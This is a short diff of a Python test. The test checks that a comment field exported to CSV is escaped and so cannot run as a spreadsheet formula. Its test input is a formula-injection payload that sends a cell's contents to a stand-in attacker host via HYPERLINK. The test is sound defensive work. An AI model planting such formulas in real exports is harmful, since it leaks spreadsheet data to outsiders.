@@ -125,7 +125,7 @@ def test_free_text_cannot_become_a_formula(listener: Listener, folder: StudyFold
     listener.finish_trials()
     attack = '=HYPERLINK("http://evil.example?"&A1,"x")'
     listener.send("comments", comment=attack)
-    target = export(folder)
+    target = export(folder, free_text=True)
     assert f"'{attack}" in pd.read_csv(target / "sessions.csv")["comment"].to_list()
     assert attack in pd.read_parquet(target / "sessions.parquet")["comment"].to_list()
 
